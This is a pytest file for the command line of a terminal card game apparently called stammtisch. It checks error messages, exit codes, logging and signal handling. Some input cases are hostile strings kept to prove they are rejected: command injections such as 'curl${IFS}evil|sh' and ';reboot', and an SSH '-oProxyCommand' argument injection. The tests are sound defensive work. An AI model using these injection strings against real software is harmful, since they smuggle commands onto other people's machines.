"""The command line where something is wrong: one sentence, an exit code, a clean terminal."""

import errno
import os
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from core.errors import RulesError
from net.errors import PeerError
from net.ssh.errors import AddressError, HostKeyChanged, ListenError
from tui import cli, commands
from tui.faults import FAILED, WRONG, explained, nobody_listens

ROOT = Path(__file__).parents[2]
PIN = "SHA256:" + "A" * 43
WITHIN = 60


def program(*words: str, stdin: bytes = b"", **more: str) -> subprocess.CompletedProcess[bytes]:
    """The program as another process."""
    return subprocess.run(
        [sys.executable, "-m", "stammtisch", *words],
        input=stdin,
        capture_output=True,
        cwd=ROOT,
        env={**os.environ, **more},
        timeout=WITHIN,
        check=False,
    )


# What it answers


WRONG_WORDS = {
    "": "needs a terminal",
    "plya": "invalid choice: 'plya'",
    "play": "GAME",
    "play whist --plain": "there is no game 'whist'; there are ",
    "play one-hundred --rule colour=red": "there are after_bust, red_ace",
    "play one-hundred --rule chips=99": "a number from 1 to 9",
    "play one-hundred --rule chips": "write option=value",
    "play one-hundred --preset odd": "there are usual",
    "play one-hundred --seats 2": "seats 3 to 12 with these rules, not 2",
    "play one-hundred --seats 99": "seats 3 to 12",
    "play one-hundred --seats many": "invalid int value: 'many'",
    "play one-hundred --bot genius": "there are random, careful",
    "play one-hundred --seed xyz": "1 to 64 hex digits",
    "play one-hundred --name host --plain": "a word that means something else",
    "play one-hundred": "use --plain",
    "play one-hundred --see 1": "unrecognized arguments: --see",
    "host one-hundred --bots 4": "4 bots do not fit at a table with 4 seats",
    "host one-hundred --bots -1": "do not fit",
    "host one-hundred --listen 8822": "takes ADDRESS:PORT",
    "host one-hundred --listen :99999": "takes ADDRESS:PORT",
    "host one-hundred --listen ::1:8822": "takes ADDRESS:PORT",
    "host one-hundred --open=maybe": "invalid choice: 'maybe'",
    "host one-hundred --friend SHA256:short": "no fingerprint of a key",
    "host one-hundred --no-seat --open": "nobody is there to say yes",
    "resume": "no table was left in the middle",
    "resume 2026-05-09-1": "there is no table 2026-05-09-1",
    "resume --listen 8822": "takes ADDRESS:PORT",
    "join /x --plain": "names no table",
    "join a/b/c --plain": "names no table",
    "join ann/x;reboot --plain": "names no table",
    "join ssh://me@server/x;curl${IFS}evil|sh --plain": "names no table",
    "join ssh://-oProxyCommand=x --plain": "no name of a server",
    "join ssh://me@-oProxyCommand=x --plain": "no name of a server",
    "join ssh://tilde": "use --plain",
    "host one-hundred --everyone": "--local opens a socket",
    "host one-hundred --group staff": "--local opens a socket",
    "host one-hundred --local --everyone --group staff": "not for both",
    "join ann@host --plain": "a name before the host",
    "join host;reboot --plain": "no name of a host",
    "join host:0 --plain": "a number from 1 to 65535",
    "join host#SHA256:x --plain": "no fingerprint",
    "join host --bot genius": "there are random, careful",
    "simulate one-hundred --seats 3 --games 0 --seed 1": "1 to 1000000",
    "simulate one-hundred --seats 3 --games 1": "--seed",
    "trace one-hundred --seats 3 --seed g": "hex digits",
    "rules whist": "there is no game 'whist'",
}


@pytest.mark.parametrize(("words", "told"), WRONG_WORDS.items())
def test_wrong_words_get_one_sentence_and_code_two(
    words: str, told: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """It says what is wrong and what there is; nothing goes to standard output (issue 2)."""
    assert cli.main(words.split()) == WRONG
    said = capsys.readouterr()

    assert said.out == ""
    assert said.err.startswith("stammtisch: ")
    assert told in said.err
    assert said.err.count("\n") == 1


def test_what_failed_is_code_one_with_its_sentence() -> None:
    """A port in use, a changed key, another version: a sentence and 1; a bad address is 2."""
    changed = HostKeyChanged("h:1", expected="A", shown="B")
    for fault, code in (
        (ListenError("Port 8822 is in use.", reason="in_use"), FAILED),
        (changed, FAILED),
        (PeerError("other_rules"), FAILED),
        (AddressError("no address"), WRONG),
        (RulesError("bad_seats", "too many"), WRONG),
    ):
        known = explained(fault)
        assert known is not None
        assert known[1] == code
        assert known[0]
    assert explained(KeyError("ours")) is None
    assert nobody_listens(BrokenPipeError())
    assert nobody_listens(OSError(errno.EIO, "gone"))
    assert not nobody_listens(OSError(errno.ENOSPC, "full"))


def test_what_a_sentence_quotes_cannot_command_the_terminal(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """An address that was pasted may hold escapes; they are not printed (E1, F2)."""
    assert cli.main(["join", "\x1b]0;x\x07\x9b31m@h", "--plain"]) == WRONG

    assert capsys.readouterr().err.rstrip("\n").isprintable()


def test_a_fault_of_ours_goes_to_the_log_and_never_to_the_person(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """One sentence names the file; the traceback is in it."""
    monkeypatch.setenv("STAMMTISCH_HOME", str(tmp_path))

    def broken(_arguments: Any) -> int:
        raise KeyError("a fault of ours")

    monkeypatch.setattr(commands, "where", broken)
    assert cli.main(["where"]) == FAILED
    said = capsys.readouterr()

    assert "Traceback" not in said.err
    assert str(tmp_path / "state" / "stammtisch.log") in said.err
    assert "a fault of ours" in (tmp_path / "state" / "stammtisch.log").read_text("utf-8")


def test_folders_that_cannot_be_made_are_named(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """A file where a folder should be is a sentence, not a crash."""
    (tmp_path / "file").write_text("")
    monkeypatch.setenv("STAMMTISCH_HOME", str(tmp_path / "file"))
    assert cli.main(["play", "one-hundred", "--plain"]) == WRONG

    assert "cannot be used" in capsys.readouterr().err


# Whole processes


def test_a_terminal_without_unicode_gets_question_marks_and_no_crash() -> None:
    """A name that the encoding does not have ends nothing."""
    done = program(
        *("play", "one-hundred", "--plain", "--name", "Žofie"),
        stdin=b"quit\n",
        PYTHONIOENCODING="ascii:strict",
        PYTHONUTF8="0",
    )

    assert done.returncode == 0, done.stderr
    assert b"?ofie" in done.stdout


def test_a_reader_that_goes_away_is_left_quietly() -> None:
    """`stammtisch trace … | head -1` prints no error."""
    with subprocess.Popen(
        [sys.executable, "-m", "stammtisch", "trace", "one-hundred", "--seats=9", "--seed=1"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        cwd=ROOT,
    ) as running:
        assert running.stdout is not None
        assert running.stderr is not None
        running.stdout.readline()
        running.stdout.close()
        running.wait(WITHIN)

        assert running.stderr.read() == b""


@pytest.mark.parametrize(("number", "code"), [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_a_signal_ends_a_table_in_good_order(number: signal.Signals, code: int) -> None:
    """Ctrl-C and a kind kill: no traceback, and 128 with the number of the signal."""
    words = ["host", "one-hundred", "--no-seat", "--open=yes", "--listen", "127.0.0.1:0"]
    with subprocess.Popen(
        [sys.executable, "-m", "stammtisch", *words],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        cwd=ROOT,
    ) as running:
        assert running.stdout is not None
        assert running.stderr is not None
        assert b"stammtisch join" in running.stdout.readline()
        running.send_signal(number)
        end = time.monotonic() + WITHIN
        assert running.wait(WITHIN) == code
        assert time.monotonic() < end
        assert running.stderr.read() == b""


def test_a_port_in_use_is_told_in_a_sentence(tmp_path: Path) -> None:
    """The second table on one port says so and ends with 1 (issue 2, bad input)."""
    words = ["host", "one-hundred", "--no-seat", "--open=yes", "--listen", "127.0.0.1"]
    with subprocess.Popen(
        [sys.executable, "-m", "stammtisch", *words[:-1], f"{words[-1]}:0"],
        stdout=subprocess.PIPE,
        cwd=ROOT,
    ) as running:
        try:
            assert running.stdout is not None
            first = running.stdout.readline().decode()
            port = first.rpartition("#")[0].rpartition(":")[2]
            done = program(*words[:-1], f"{words[-1]}:{port}")
        finally:
            running.terminate()

    assert done.returncode == FAILED
    assert done.stderr.decode().startswith(f"stammtisch: Port {port} is already in use")
